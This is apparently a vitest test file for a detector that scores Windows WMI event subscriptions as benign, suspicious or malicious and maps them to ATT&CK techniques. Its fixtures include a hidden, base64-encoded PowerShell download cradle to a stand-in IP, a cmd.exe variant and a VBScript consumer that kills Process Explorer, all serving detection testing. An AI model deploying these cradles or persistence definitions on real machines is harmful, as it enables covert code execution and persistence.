import { describe, expect, test } from "vitest";
import { judge } from "./judge.ts";
import {
  ADMINISTRATORS,
  BOOT_WINDOW,
  command,
  encodedCommand,
  type Sketch,
  subscriptionOf,
  USER,
} from "./subscription.test-support.ts";

const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a')";
const ATOMIC = "AtomicRedTeam-WMIPersistence-CommandLineEventConsumer-Example";
const KILL_PROCESS =
  'Set oLocation = CreateObject("WbemScripting.SWbemLocator")\nSet oServices = oLocation.ConnectServer(, "root\\cimv2")\noProcess.Terminate()';

interface Worked {
  sketch: Sketch;
  reasons: Record<string, number>;
  score: number;
  level: string;
}

const worked: Record<string, Worked> = {
  "SCM default": {
    sketch: {
      filter: { name: "SCM Event Log Filter", query: "select * from MSFT_SCMEventLogEvent" },
      consumer: {
        class: "NTEventLogEventConsumer",
        name: "SCM Event Log Consumer",
        properties: {
          Category: 0,
          EventType: 1,
          NameOfUserSIDProperty: "sid",
          SourceName: "Service Control Manager",
          InsertionStringTemplates: [""],
        },
      },
    },
    reasons: { "known-good": 0 },
    score: 0,
    level: "benign",
  },
  "SCM names over an encoded cradle": {
    sketch: {
      filter: { name: "SCM Event Log Filter", query: BOOT_WINDOW },
      consumer: command(`powershell -nop -w hidden -enc ${encodedCommand(CRADLE)}`, null, "SCM Event Log Consumer"),
      owner: ADMINISTRATORS,
    },
    reasons: {
      "name-masquerade": 35,
      "hidden-code": 30,
      download: 25,
      interpreter: 20,
      "quiet-switches": 15,
      "trigger-stealth": 15,
    },
    score: 100,
    level: "malicious",
  },
  "Atomic test 1": {
    sketch: {
      filter: { name: ATOMIC, query: BOOT_WINDOW, eventNamespace: "root\\CimV2" },
      consumer: command("C:\\WINDOWS\\System32\\notepad.exe", null, ATOMIC),
      owner: USER,
    },
    reasons: { "known-bad-definition": 25, "trigger-stealth": 15, "owner-account": 15, "known-bad-name": 10 },
    score: 65,
    level: "suspicious",
  },
  "the same payload and trigger under a GUID": {
    sketch: {
      filter: { name: "{6B29FC40-CA47-1067-B31D-00DD010662DA}", query: BOOT_WINDOW },
      consumer: command("C:\\WINDOWS\\System32\\notepad.exe", null, "{6B29FC40-CA47-1067-B31D-00DD010662DB}"),
      owner: USER,
    },
    reasons: { "trigger-stealth": 15, "owner-account": 15 },
    score: 30,
    level: "unknown",
  },
  "KillProcess on procexp64.exe": {
    sketch: {
      filter: {
        name: "ProcessStartTrigger",
        query: "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'",
      },
      consumer: {
        class: "ActiveScriptEventConsumer",
        name: "KillProcess",
        properties: { ScriptingEngine: "VBScript", ScriptText: KILL_PROCESS, KillTimeout: 45 },
      },
      owner: USER,
    },
    reasons: {
      "trigger-anti-analysis": 25,
      "known-bad-definition": 25,
      "inline-script": 15,
      "trigger-stealth": 15,
      "owner-account": 15,
      "script-capability": 10,
      "known-bad-name": 10,
    },
    score: 100,
    level: "malicious",
  },
  "cmd.exe in ExecutablePath, a random pair of names": {
    sketch: {
      filter: {
        name: "fq3Zt9b",
        query:
          "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
      },
      consumer: command(`/c powershell -c ${CRADLE}`, "c:\\windows\\system32\\cmd.exe", "cq3Zt9b"),
      owner: USER,
    },
    reasons: {
      download: 25,
      "known-bad-definition": 25,
      interpreter: 20,
      "program-mismatch": 20,
      "trigger-stealth": 15,
      "owner-account": 15,
      "known-bad-name": 10,
    },
    score: 100,
    level: "malicious",
  },
  "a vendor's script that was not collected": {
    sketch: {
      filter: {
        name: "DellCommandPowerManagerAlertEventFilter",
        query: "SELECT * FROM DPM_AlertEvent",
        eventNamespace: "root\\dellomci",
      },
      consumer: {
        class: "ActiveScriptEventConsumer",
        name: "DellCommandPowerManagerAlertEventConsumer",
        properties: { ScriptingEngine: "VBScript" },
      },
    },
    reasons: {},
    score: 0,
    level: "unknown",
  },
  "a consumer class of its own": {
    sketch: {
      namespace: "ROOT\\ThinPrint",
      filter: { query: "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Printer'" },
      consumer: { class: "NotCommandLine", name: "C", properties: { CommandLineTemplate: "calc.exe" } },
      owner: USER,
    },
    reasons: { "nonstandard-class": 25, "outside-subscription": 20, "owner-account": 15, "new-namespace": 5 },
    score: 65,
    level: "suspicious",
  },
};

describe("worked scores of the rubric", () => {
  test.each(Object.entries(worked))("%s", (_, { sketch, reasons, score, level }) => {
    const { verdict } = judge(subscriptionOf(sketch), { others: [] });
    expect(Object.fromEntries(verdict.reasons.map(({ id, weight }) => [id, weight]))).toEqual(reasons);
    expect({ score: verdict.score, level: verdict.level }).toEqual({ score, level });
  });

  test("a sum below 100 is the sum of the weights", () => {
    for (const { reasons, score } of Object.values(worked)) {
      const sum = Object.values(reasons).reduce((total, weight) => total + weight, 0);
      expect(Math.min(sum, 100)).toBe(score);
    }
  });

  test("what was not collected is named, and a vendor's name clears nothing", () => {
    const { sketch } = worked["a vendor's script that was not collected"] as Worked;
    const { notes } = judge(subscriptionOf(sketch), { others: [] });
    expect(notes.map(({ code }) => code)).toEqual(["not-judged", "vendor-name"]);
    expect(notes[0]?.text).toContain("inline-script");
  });
});

describe("the rest of a judgement", () => {
  test("says when it fires, what is hidden in it, which techniques it uses and what it is like", () => {
    const { sketch } = worked["SCM names over an encoded cradle"] as Worked;
    const { trigger, action, attack, verdict } = judge(subscriptionOf(sketch), { others: [] });
    expect(trigger.kind).toBe("boot-window");
    expect(action.decoded).toContainEqual({ encoding: "base64-utf16le", text: CRADLE });
    expect(attack).toEqual(["T1546.003", "T1027", "T1036", "T1059.001", "T1105", "T1564.003"]);
    expect(verdict.reasons.map(({ text }) => text)).toContain(
      "The payload hides code behind base64-utf16le: a download (http://192.0.2.10/a).",
    );
  });

  test("reasons point at the sightings of the objects that they speak of", () => {
    const { verdict } = judge(subscriptionOf({ ...(worked["Atomic test 1"] as Worked).sketch }), { others: [] });
    const sightings = Object.fromEntries(verdict.reasons.map(({ id, sightings }) => [id, sightings]));
    expect(sightings["trigger-stealth"]).toEqual([0]);
    expect(sightings["owner-account"]).toEqual([0, 1, 2]);
  });

  test("names, owners and prevalence alone never make it malicious", () => {
    const subscription = subscriptionOf({
      filter: { name: "SCM Event8 Log Filter", query: "SELECT * FROM X" },
      consumer: command("C:\\Program Files\\Contoso\\agent.exe", null, "SCM Event8 Log Consumer"),
      owner: USER,
    });
    const prevalence = { hosts: 100, hostsWithSame: 1 };
    const { verdict } = judge(subscription, { others: [], prevalence });
    expect(verdict).toMatchObject({ score: 100, level: "suspicious" });
  });

  test("a definition that is the same nearly everywhere weighs less", () => {
    const subscription = subscriptionOf({
      consumer: command('"C:\\Program Files\\Contoso\\agent.exe" -x'),
      owner: USER,
    });
    const judged = (hostsWithSame: number) =>
      judge(subscription, { others: [], prevalence: { hosts: 60, hostsWithSame } });
    expect(judged(55).verdict).toMatchObject({ score: 0, level: "unknown" });
    expect(judged(20).verdict.score).toBe(15);
  });
});

test.each(["constructor", "__proto__", "toString", "hasOwnProperty"])(
  "nothing is looked up for evidence named %s",
  (name) => {
    const properties = {
      CommandLineTemplate: `${name} ${name} & ${name}`,
      ScriptingEngine: name,
      ScriptText: `x ${name} "a"`,
    };
    for (const consumerClass of [name, "CommandLineEventConsumer", "ActiveScriptEventConsumer"]) {
      const report = subscriptionOf({
        filter: { name, query: name },
        consumer: { class: consumerClass, name, properties },
      });
      const { attack, action, verdict } = judge(report, { others: [] });
      expect(attack.every((id) => /^T\d{4}(?:\.\d{3})?$/.test(id))).toBe(true);
      expect(typeof action.kind).toBe("string");
      expect(verdict.reasons.some(({ id }) => id === "nonstandard-class")).toBe(consumerClass === name);
    }
  },
);
